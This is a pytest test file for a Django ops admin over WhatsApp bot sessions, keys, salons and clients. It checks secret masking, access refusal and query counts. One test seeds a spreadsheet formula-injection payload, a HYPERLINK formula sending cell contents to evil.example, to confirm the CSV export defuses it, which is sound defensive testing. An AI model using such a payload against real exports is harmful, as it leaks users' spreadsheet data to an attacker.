"""Tests for the ops admin: sessions, key browser, overview, salons, clients; no secret shown."""

from __future__ import annotations

import base64
import re
from datetime import timedelta

import pytest
from django.contrib.admin.utils import quote
from django.db import connections
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from observability import snapshot
from observability.models import Client, Company, SessionState, WhatsAppAuth, WhatsAppKey
from tests import factories

pytestmark = pytest.mark.django_db(databases=["default", "bot"])

SALON = 962302
PHONE = "79161234567"
CLIENT_PHONE = "79001112233"


def session_page(session_id: str) -> str:
    return reverse("admin:observability_sessionstate_change", args=[quote(session_id)])


def keys_page(session_id: str) -> str:
    return reverse("admin:observability_sessionstate_keys", args=[quote(session_id)])


@pytest.fixture
def seeded():
    """A salon with secrets, a healthy session, a failing twin, keys and two clients."""
    company = factories.make_company(SALON, title="Салон Лотос", phone="+7 (495) 765-43-21")
    factories.make_auth(str(SALON), phone=PHONE, platform="smba", registered=True)
    factories.make_keys(str(SALON), "session", 20)
    factories.make_keys(str(SALON), "pre-key", 5)
    factories.make_keys(str(SALON), "app-state-sync-key", 3)
    old = timezone.now() - timedelta(days=20)
    factories.make_keys(str(SALON), "sender-key", 4, written_at=old)
    factories.make_auth(f"company_{SALON}", seed=2, phone=PHONE, registered=False)
    factories.make_keys(f"company_{SALON}", "session", 2, written_at=old)
    factories.make_keys("company_777", "tctoken", 3)  # keys without auth row
    client = factories.make_client(
        SALON,
        1,
        phone=CLIENT_PHONE,
        raw_phone="+7 (900) 111-22-33",
        tags=["vip", "morning"],
        visit_history=[{"date": "2025-11-01", "service": "Стрижка"}],
        loyalty_level="gold",
        client_segment="regular",
        last_visit_date=timezone.now().date(),
    )
    factories.make_client(SALON, 2, name="Борис Петров", phone="79005556677")
    snapshot.refresh(full=True)
    return {"company": company, "client": client}


def _buffers(value, found: list[bytes]) -> None:
    """Collect the bytes of every Buffer in a jsonb value."""
    if isinstance(value, dict):
        if value.get("type") == "Buffer":
            data = value["data"]
            found.append(bytes(data) if isinstance(data, list) else base64.b64decode(data))
            return
        for item in value.values():
            _buffers(item, found)
    elif isinstance(value, list):
        for item in value:
            _buffers(item, found)


def secrets_in_store() -> list[str]:
    """Every secret string a page must never contain, in every form it could leak in."""
    forms: list[str] = []
    buffers: list[bytes] = []
    for auth in WhatsAppAuth.objects.all():
        _buffers(auth.creds, buffers)
        forms += [auth.creds["advSecretKey"], auth.creds["me"]["lid"]]
        forms += [auth.creds["pairingCode"]] if "pairingCode" in auth.creds else []
        forms.append(auth.creds["me"]["id"].split(":")[0])
    for key in WhatsAppKey.objects.all():
        _buffers(key.value, buffers)
    for data in buffers:
        forms += [
            base64.b64encode(data).decode(),
            data.hex(),
            str(list(data)),
            ",".join(map(str, data)),
        ]
    for company in Company.objects.all():
        forms += [company.api_key, company.webhook_secret]
    for client in Client.objects.all():
        forms.append(client.phone)
    return [form for form in forms if form]


def admin_pages(seeded) -> list[str]:
    company, client = seeded["company"], seeded["client"]
    changelist = reverse("admin:observability_sessionstate_changelist")
    return [
        reverse("admin:index"),
        reverse("admin:app_list", args=["observability"]),
        changelist,
        changelist + "?status=FAIL",
        changelist + "?q=%2B7+(916)+123-45-67",
        session_page(str(SALON)),
        session_page(f"company_{SALON}"),
        session_page("company_777"),
        keys_page(str(SALON)),
        keys_page(str(SALON)) + "?type=session",
        keys_page(str(SALON)) + "?expired=yes",
        reverse("admin:observability_sessionstate_overview"),
        reverse("admin:observability_company_changelist"),
        reverse("admin:observability_company_changelist") + f"?q={SALON}",
        reverse("admin:observability_company_change", args=[company.pk]),
        reverse("admin:observability_client_changelist"),
        reverse("admin:observability_client_changelist") + f"?salon={SALON}",
        reverse("admin:observability_client_changelist") + "?q=8+900+111+22+33",
        reverse("admin:observability_client_change", args=[client.pk]),
    ]


def test_admin_pages__render_without_any_secret(admin_client, seeded):
    """Every admin page over the seeded salon answers 200 and holds no secret in any form."""
    secrets = secrets_in_store()
    assert len(secrets) > 100
    for url in admin_pages(seeded):
        response = admin_client.get(url)
        assert response.status_code == 200, url
        html = response.content.decode()
        leaked = [secret for secret in secrets if secret in html]
        assert not leaked, (url, leaked[:3])


def test_admin_pages__anonymous_sent_to_login(client, seeded):
    """An anonymous visitor is redirected to the login page from every admin URL."""
    for url in admin_pages(seeded)[1:]:
        response = client.get(url)
        assert response.status_code == 302, url
        assert response["Location"].startswith(reverse("admin:login")), url


def test_admin_pages__staff_without_permission_refused(client, django_user_model, seeded):
    """A staff user without view permission gets no bot data."""
    user = django_user_model.objects.create_user("ops", password="pw", is_staff=True)
    client.force_login(user)
    for url in (session_page(str(SALON)), keys_page(str(SALON))):
        assert client.get(url).status_code == 403


@pytest.mark.parametrize("model", ["sessionstate", "company", "client"])
def test_bot_models__add_change_delete_refused_for_superuser(admin_client, seeded, model):
    """Add, change (POST) and delete answer 403 even for a superuser."""
    pk = {
        "sessionstate": quote(str(SALON)),
        "company": seeded["company"].pk,
        "client": seeded["client"].pk,
    }[model]
    assert admin_client.get(reverse(f"admin:observability_{model}_add")).status_code == 403
    assert admin_client.post(reverse(f"admin:observability_{model}_add")).status_code == 403
    change = reverse(f"admin:observability_{model}_change", args=[pk])
    assert admin_client.post(change, {"title": "x"}).status_code == 403
    delete = reverse(f"admin:observability_{model}_delete", args=[pk])
    assert admin_client.get(delete).status_code == 403
    assert admin_client.post(delete, {"post": "yes"}).status_code == 403
    assert WhatsAppAuth.objects.count() == 2 and Company.objects.count() == 1
    assert SessionState.objects.count() == 3


def test_keys_model__not_registered(admin_client):
    """The composite-key model has no admin of its own (keys are browsed per session)."""
    assert admin_client.get("/admin/observability/whatsappkey/").status_code == 404


def test_changelist__worst_first_with_columns(admin_client, seeded):
    """The failing twin comes first; the row shows badge, salon, masked phone and reasons."""
    response = admin_client.get(reverse("admin:observability_sessionstate_changelist"))
    html = response.content.decode()
    assert html.index(f"company_{SALON}</strong>") < html.index(f">{SALON}</strong>")
    assert "7916***4567" in html
    assert "Салон Лотос" in html
    assert "One number in two places" in html
    assert 'class="obs-badge obs-fail"' in html
    assert 'name="_selected_action"' in html  # action checkboxes


def test_changelist__filters_and_search(admin_client, seeded):
    """Status, spelling and duplicate filters and search by phone/title/id select sessions."""
    url = reverse("admin:observability_sessionstate_changelist")

    def ids(query: str) -> set[str]:
        response = admin_client.get(url + query)
        return {obj.session_id for obj in response.context["cl"].result_list}

    assert ids("?status=FAIL") == {str(SALON), f"company_{SALON}"}
    assert ids("?status=OK") == set()
    assert ids("?spelling=prefixed") == {f"company_{SALON}", "company_777"}
    assert ids("?duplicate=yes") == {str(SALON), f"company_{SALON}"}
    assert ids("?platform=smba") == {str(SALON)}
    assert ids("?q=8+916+123+45+67") == {str(SALON), f"company_{SALON}"}
    assert ids("?q=лотос") == {str(SALON), f"company_{SALON}"}
    assert ids(f"?q=company_{SALON}") == {f"company_{SALON}"}
    assert ids("?q=nothing-like-this") == set()
    assert ids(f"?q={SALON}") == {str(SALON), f"company_{SALON}"}
    assert ids("?auth=no") == {"company_777"}  # keys-only sessions are rows
    assert ids("?recent=new") == set()  # the first snapshot observed them: none is new
    assert ids("?o=4") == ids("")  # ordering by a column runs in SQL


def test_changelist__no_phone_probing_through_url_lookups(admin_client, seeded):
    """A lookup on the phone digits in the URL is refused, so no prefix can be probed."""
    url = reverse("admin:observability_sessionstate_changelist")
    response = admin_client.get(url + "?phone_digits__startswith=7916")
    assert response.status_code in (302, 400)
    assert PHONE not in admin_client.get(url).content.decode()


def test_changelist__export_action_masks_phones(admin_client, seeded):
    """The CSV action exports the selected sessions' health with phones masked."""
    response = admin_client.post(
        reverse("admin:observability_sessionstate_changelist"),
        {"action": "export_health_csv", "_selected_action": [str(SALON)]},
    )
    body = response.content.decode()
    assert response.status_code == 200 and "7916***4567" in body and PHONE not in body


def test_session_page__health_chart_creds_links(admin_client, seeded):
    """The session page shows reasons, twin warning, charts, masked creds and links."""
    html = admin_client.get(session_page(str(SALON))).content.decode()
    assert 'id="twin-warning"' in html and session_page(f"company_{SALON}") in html
    assert "also stored as" in html
    assert html.count('class="obs-chart"') == 2 and "Key writes per day" in html
    assert "signedPreKey.keyPair.private" in html and "advSecretKey" in html
    assert "7916***4567" in html  # me.id masked
    assert f"?salon={SALON}" in html  # clients link
    assert reverse("admin:observability_company_change", args=[seeded["company"].pk]) in html
    assert keys_page(str(SALON)) in html


def test_session_page__unknown_session_is_404(admin_client):
    """A session id with nothing stored answers 404 with a plain message, not a traceback."""
    response = admin_client.get(session_page("31337"))
    assert response.status_code == 404
    assert "No WhatsApp session is stored under" in response.content.decode()
    assert admin_client.get(keys_page("31337")).status_code == 404


def test_key_browser__filters_and_sizes(admin_client, seeded):
    """The key browser filters by type and expiry and shows sizes, never values."""
    response = admin_client.get(keys_page(str(SALON)) + "?type=sender-key&expired=yes")
    page = response.context["page"]
    assert page.total == 4
    assert {row.key_type for row in page.rows} == {"sender-key"}
    assert all(row.expired and row.value_bytes == 48 for row in page.rows)
    live = admin_client.get(keys_page(str(SALON)) + "?expired=no").context["page"]
    assert live.total == 28
    html = admin_client.get(keys_page(str(SALON)) + "?type=session").content.decode()
    assert "48 bytes" in html and "***" in html  # contact phones in key ids are masked


def test_overview__counts_duplicates_orphans(admin_client, seeded):
    """The overview shows counts per status, the duplicate salon and the orphan keys."""
    response = admin_client.get(reverse("admin:observability_sessionstate_overview"))
    store = response.context["store"]
    assert store.total_sessions == 3
    assert store.duplicate_salon_ids == (SALON,)
    html = response.content.decode()
    assert session_page("company_777") in html
    index = admin_client.get(reverse("admin:index")).content.decode()
    assert reverse("admin:observability_sessionstate_overview") in index


def test_salon_admin__never_loads_secrets(admin_client, seeded):
    """The salon list and page never select api_key or webhook_secret."""
    company = seeded["company"]
    with CaptureQueriesContext(connections["bot"]) as queries:
        admin_client.get(reverse("admin:observability_company_changelist"))
        html = admin_client.get(
            reverse("admin:observability_company_change", args=[company.pk])
        ).content.decode()
    sql = " ".join(query["sql"] for query in queries.captured_queries)
    assert "api_key" not in sql and "webhook_secret" not in sql
    assert "7495***4321" in html and "Салон Лотос" in html


def test_salon_admin__health_column_beside_the_bots_flag(admin_client, seeded):
    """The bot says 'connected' while a session fails: the list shows both, worst linked."""
    from observability.admin.salons import worst_session

    worst = worst_session(SALON)
    assert worst is not None and worst.status == "FAIL"
    html = admin_client.get(reverse("admin:observability_company_changelist")).content.decode()
    assert "Bot says connected" in html and "Health (worst session)" in html
    assert 'class="obs-badge obs-fail"' in html
    assert f'href="{session_page(worst.session_id)}"' in html
    assert worst_session(123456) is None
    Company.objects.filter(company_id=SALON).update(
        disconnected_at=timezone.now() - timedelta(hours=3)
    )
    html = admin_client.get(reverse("admin:observability_company_changelist")).content.decode()
    assert " UTC</time>" in html and "3 hours ago" in html


def test_client_admin__search_by_any_phone_spelling_matches_the_shown_digits(admin_client, seeded):
    """Searching '+7 (900) 111-22-33' finds the client by the digits its mask shows only."""
    url = reverse("admin:observability_client_changelist")
    with CaptureQueriesContext(connections["bot"]) as queries:
        response = admin_client.get(url, {"q": "+7 (900) 111-22-33"})
    assert [c.pk for c in response.context["cl"].result_list] == [seeded["client"].pk]
    sql = " ".join(query["sql"] for query in queries.captured_queries)
    assert "79001112233" not in sql and "1112233" not in sql
    by_name = admin_client.get(url, {"q": "борис"}).context["cl"].result_list
    assert [c.name for c in by_name] == ["Борис Петров"]


def test_client_admin__search_by_last_digits_or_pasted_mask(admin_client, seeded):
    """'2233', '22-33' and the shown mask '7900***2233' find the client; '9999' finds none."""
    url = reverse("admin:observability_client_changelist")

    def found(term: str) -> list[int]:
        return [c.pk for c in admin_client.get(url, {"q": term}).context["cl"].result_list]

    assert found("2233") == [seeded["client"].pk]
    assert found("22-33") == [seeded["client"].pk]
    assert found("7900***2233") == [seeded["client"].pk]
    assert found("7916***2233") == []
    assert found("556677") == [c.pk for c in Client.objects.filter(name="Борис Петров")]
    assert found("9999") == []


def test_client_admin__filters_and_readable_fields(admin_client, seeded):
    """Filters by salon, loyalty and segment work; arrays and jsonb read as text."""
    url = reverse("admin:observability_client_changelist")
    gold = admin_client.get(url, {"loyalty": "gold", "segment": "regular"})
    assert [c.pk for c in gold.context["cl"].result_list] == [seeded["client"].pk]
    assert admin_client.get(url, {"blacklisted__exact": "1"}).context["cl"].result_count == 0
    html = admin_client.get(
        reverse("admin:observability_client_change", args=[seeded["client"].pk])
    ).content.decode()
    assert "vip, morning" in html and "Стрижка" in html and "7900***2233" in html


def _seed_sessions(count: int, start: int) -> None:
    for index in range(count):
        sid = str(start + index)
        factories.make_auth(sid, seed=index)
        factories.make_keys(sid, "session", 3, seed=index)
    snapshot.refresh(full=True)


def _count_queries(admin_client, url: str) -> tuple[int, int]:
    with (
        CaptureQueriesContext(connections["default"]) as default,
        CaptureQueriesContext(connections["bot"]) as bot,
    ):
        assert admin_client.get(url).status_code == 200
    return len(default.captured_queries), len(bot.captured_queries)


def test_query_counts__same_for_10_and_200_sessions(admin_client):
    """The changelist, overview and a session page run as many queries at 10 as at 200."""
    urls = [
        reverse("admin:observability_sessionstate_changelist"),
        reverse("admin:observability_sessionstate_changelist") + "?status=WARN",
        reverse("admin:observability_sessionstate_overview"),
        session_page("100000"),
        keys_page("100000"),
    ]
    _seed_sessions(10, 100000)
    admin_client.get(urls[0])  # warm the session/user caches
    small = [_count_queries(admin_client, url) for url in urls]
    _seed_sessions(190, 200000)
    large = [_count_queries(admin_client, url) for url in urls]
    assert small == large
    assert all(bot <= 8 for _, bot in large)
    assert [bot for _, bot in large[:3]] == [0, 0, 0]  # the list and overview read no bot row


@pytest.mark.slow
def test_pages__bot_database_down_answer_from_the_snapshot_with_its_age(
    admin_client, seeded, bot_database_down
):
    """With the bot down the list, overview and session page answer from the snapshot."""
    for url in (
        reverse("admin:observability_sessionstate_changelist"),
        reverse("admin:observability_sessionstate_overview"),
        session_page(str(SALON)),
    ):
        response = admin_client.get(url)
        html = response.content.decode()
        assert response.status_code == 200, url
        assert 'id="health-freshness"' in html and "s ago" in html, url
    page = admin_client.get(session_page(str(SALON))).content.decode()
    assert 'id="detail-unavailable"' in page and "unavailable" in page
    for url in (
        keys_page(str(SALON)),
        reverse("admin:observability_company_change", args=[seeded["company"].pk]),
        reverse("admin:observability_client_change", args=[seeded["client"].pk]),
    ):
        response = admin_client.get(url)
        assert response.status_code == 503, url
        assert "Bot database unavailable" in response.content.decode(), url


def test_pages__every_stored_verdict_shows_the_snapshot_age(admin_client, seeded):
    """The key browser, salons list and page and the admin index say how old their verdicts are."""
    from observability.models import Snapshot

    Snapshot.objects.update(taken_at=timezone.now() - timedelta(minutes=5))
    for url in (
        keys_page(str(SALON)),
        reverse("admin:observability_company_changelist"),
        reverse("admin:observability_company_change", args=[seeded["company"].pk]),
        reverse("admin:index"),
    ):
        response = admin_client.get(url)
        html = response.content.decode()
        assert response.status_code == 200, url
        assert 'id="health-freshness"' in html, url
        assert "· 5 minutes ago (full), older than 3 min" in html, url  # stale: it says so
    # Pages without a stored verdict have no banner.
    clients = admin_client.get(reverse("admin:observability_client_changelist"))
    assert 'id="health-freshness"' not in clients.content.decode()


def test_key_browser__a_session_stored_since_the_snapshot_is_judged_live(admin_client, seeded):
    """A session written after the last snapshot: no snapshot age, a note that it is live."""
    factories.make_auth("962399", seed=9)
    html = admin_client.get(keys_page("962399")).content.decode()
    assert 'id="judged-live"' in html
    assert 'id="health-freshness"' not in html


def test_changelist__row_is_short_with_key_breakdown_on_hover(admin_client, seeded):
    """Each row keeps the per-type breakdown in a tooltip and the first reason as headline."""
    response = admin_client.get(reverse("admin:observability_sessionstate_changelist"))
    html = response.content.decode()
    breakdown = "app-state-sync-key 3, pre-key 5, sender-key 4, session 20"
    assert f'<span title="{breakdown}">32</span>' in html
    assert "more</small>" in html
    assert 'id="health-freshness"' in html


def test_admin__view_site_leads_to_the_overview_and_favicon_is_served(admin_client, client):
    """'View site' links to the store overview (not a 404); /favicon.ico answers an icon."""
    overview = reverse("admin:observability_sessionstate_overview")
    html = admin_client.get(reverse("admin:index")).content.decode()
    assert f'href="{overview}">View site' in html
    assert admin_client.get(overview).status_code == 200
    icon = client.get("/favicon.ico")
    assert icon.status_code == 200 and icon["Content-Type"] == "image/svg+xml"
    assert b"<svg" in icon.content and "max-age=86400" in icon["Cache-Control"]


def test_session_page__timeline_and_status_since(admin_client, seeded):
    """The session page shows the 7- and 30-day bands and the changes with their times."""
    html = admin_client.get(session_page(f"company_{SALON}")).content.decode()
    assert 'id="timeline-7"' in html and 'id="timeline-30"' in html
    assert "first seen" in html and 'id="status-since"' in html
    assert 'class="obs-band-fail"' in html


def test_changelist__export_action_defuses_spreadsheet_formulas(admin_client):
    """A salon title that is a formula is exported quoted, so a spreadsheet shows it as text."""
    factories.make_company(SALON, title='=HYPERLINK("http://evil.example/?"&A1,"open")')
    factories.make_auth(str(SALON), phone=PHONE)
    snapshot.refresh(full=True)
    response = admin_client.post(
        reverse("admin:observability_sessionstate_changelist"),
        {"action": "export_health_csv", "_selected_action": [str(SALON)]},
    )
    row = response.content.decode().splitlines()[1]
    assert "'=HYPERLINK(" in row
    assert ',"=HYPERLINK' not in row and not row.startswith("=")


def test_when__one_format_with_time_zone_and_relative_age(settings):
    """Every moment reads '2026-01-02 03:04 UTC · 2 hours ago' (or 'in ...'), None a dash."""
    from datetime import UTC, date, datetime

    from observability.admin import display

    now = datetime(2026, 1, 2, 5, 10, tzinfo=UTC)
    past = display.when(datetime(2026, 1, 2, 3, 4, tzinfo=UTC), now)
    assert ">2026-01-02 03:04 UTC</time>" in past and "· 2 hours ago" in past
    assert 'datetime="2026-01-02T03:04:00+00:00"' in past
    assert "· in 3 days" in display.when(now + timedelta(days=3, hours=1), now)
    settings.TIME_ZONE = "Europe/Moscow"
    assert ">2026-01-02 06:04 MSK</time>" in display.when(
        datetime(2026, 1, 2, 3, 4, tzinfo=UTC), now
    )
    assert display.when(None) == "—"
    assert ">2026-01-02</time>" in display.when(date(2026, 1, 2))
    naive = display.when(datetime(2026, 1, 2, 3, 4), now)  # the bot's naive columns are UTC
    assert ">2026-01-02 06:04 MSK</time>" in naive


def test_admin_index__store_counts_link_to_each_status(admin_client, seeded):
    """The index shows FAIL / WARN / OK counts of the snapshot, each linked to its list."""
    from observability.models import SessionState

    html = admin_client.get(reverse("admin:index")).content.decode()
    counts = html.split('id="store-counts"')[1].split("</div>")[0]
    changelist = reverse("admin:observability_sessionstate_changelist")
    for status in ("FAIL", "WARN", "OK"):
        n = SessionState.objects.filter(status=status).count()
        assert f'<a href="{changelist}?status={status}">{n}</a>' in counts
    assert counts.index("obs-fail") < counts.index("obs-warn") < counts.index("obs-ok")


def test_overview__sessions_grouped_by_reason_said_once(admin_client):
    """Two sessions failing for the same rule: one sentence, then both sessions."""
    factories.make_keys("company_701", "session", 2)
    factories.make_keys("company_702", "session", 2)
    snapshot.refresh(full=True)
    response = admin_client.get(reverse("admin:observability_sessionstate_overview"))
    (section,) = [s for s in response.context["reason_sections"] if s["id"] == "warning"]
    (group,) = section["groups"]
    assert [row["session_id"] for row in group["sessions"]] == ["company_701", "company_702"]
    html = response.content.decode()
    warning = html[html.index('id="warning"') : html.index('id="incidents"')]
    assert warning.count(group["sentence"].split(":")[0]) == 2  # the group's text and its title
    assert warning.count('class="obs-since"') == 2


def _chart(html: str, label: str) -> dict[str, int]:
    """The day -> count bars of one chart of the session page, as its bar titles say."""
    svg = re.search(rf'<svg class="obs-chart"[^>]*aria-label="{label}".*?</svg>', html, re.S)
    return {day: int(count) for day, count in re.findall(r"<title>([\d-]+): (\d+) keys", svg[0])}


def _key_type_rows(html: str) -> dict[str, tuple[str, str]]:
    """The keys-by-type table of the session page: type -> (count, expired) as shown."""
    table = re.search(r'<div class="module" id="key-types">.*?</table>', html, re.S)[0]
    rows = re.findall(
        r"<tr>\s*<td><a [^>]*>([^<]+)</a></td>\s*<td>(\d+)</td>\s*<td>(?:<a [^>]*>)?(\d+)",
        table,
    )
    return {key_type: (count, expired) for key_type, count, expired in rows}


def test_session_page__key_types_and_charts_count_its_own_keys_by_local_day(
    admin_client, settings
):
    """Keys by type and both charts count this session's keys on the days of the time zone."""
    from datetime import datetime, time
    from zoneinfo import ZoneInfo

    settings.TIME_ZONE = "America/Bogota"  # UTC-5 all year: local days differ from UTC's
    zone = ZoneInfo("America/Bogota")
    now = timezone.now()
    today = timezone.localtime(now, zone).date()

    def local(days: int, hour: int, minute: int = 0) -> datetime:
        return datetime.combine(today + timedelta(days=days), time(hour, minute), tzinfo=zone)

    factories.make_auth("4100")
    # Written yesterday at 21:30 local (today in UTC), expiring in two days at 21:30 local.
    factories.make_keys(
        "4100", "session", 3, written_at=local(-1, 21, 30), expires_at=local(2, 21, 30)
    )
    factories.make_keys(
        "4100",
        "sender-key",
        4,
        written_at=now - timedelta(days=3),
        expires_at=now - timedelta(hours=1),
    )
    factories.make_keys("4100", "pre-key", 2, written_at=now - timedelta(days=20), expires_at=None)
    factories.make_keys("4101", "session", 9)  # another session's keys count nowhere here
    snapshot.refresh(full=True)

    html = admin_client.get(session_page("4100")).content.decode()

    assert _key_type_rows(html) == {
        "pre-key": ("2", "0"),
        "sender-key": ("4", "4"),
        "session": ("3", "0"),
    }
    writes = _chart(html, "Key writes per day")
    assert len(writes) == 14 and max(writes) == today.isoformat()
    assert {day: count for day, count in writes.items() if count} == {
        (today - timedelta(days=3)).isoformat(): 4,
        (today - timedelta(days=1)).isoformat(): 3,
    }
    assert "Writes: 7 keys last written in these days" in html
    expiries = _chart(html, "Key expiries per day ahead")
    assert len(expiries) == 14 and min(expiries) == today.isoformat()
    assert {day: count for day, count in expiries.items() if count} == {
        (today + timedelta(days=2)).isoformat(): 3
    }
    assert "Expiring: 3 keys in the next days" in html


def test_session_page__reads_only_the_sessions_own_rows(admin_client):
    """Every bot query of the session page names its session: its cost follows its own keys."""
    factories.make_auth("4200")
    factories.make_keys("4200", "session", 5)
    factories.make_auth("4201")  # other sessions, never read by the page
    factories.make_keys("4201", "session", 5)
    snapshot.refresh(full=True)
    with CaptureQueriesContext(connections["bot"]) as queries:
        html = admin_client.get(session_page("4200")).content.decode()
    assert 'id="key-types"' in html and 'id="creds"' in html
    assert len(queries.captured_queries) == 3  # the keys, whether creds exist, the creds walk
    for query in queries.captured_queries:
        assert "'4200'" in query["sql"], query["sql"]


def test_session_page__rows_gone_since_the_snapshot_keep_the_stored_verdict(admin_client):
    """A session deleted from the bot's tables after the snapshot still shows its verdict."""
    factories.make_auth("4300", paired=False)
    factories.make_keys("4300", "session", 2)
    factories.make_keys("4301", "tctoken", 2)  # keys only: no auth row
    snapshot.refresh(full=True)
    keys_only = admin_client.get(session_page("4301")).content.decode()
    assert "No auth row: this session exists only as keys." in keys_only
    WhatsAppKey.objects.filter(company_id="4300").delete()
    WhatsAppAuth.objects.filter(company_id="4300").delete()
    response = admin_client.get(session_page("4300"))
    html = response.content.decode()
    assert response.status_code == 200
    assert 'id="session-status"' in html and "FAIL" in html
    assert 'id="detail-unavailable"' in html and "no longer hold this session" in html
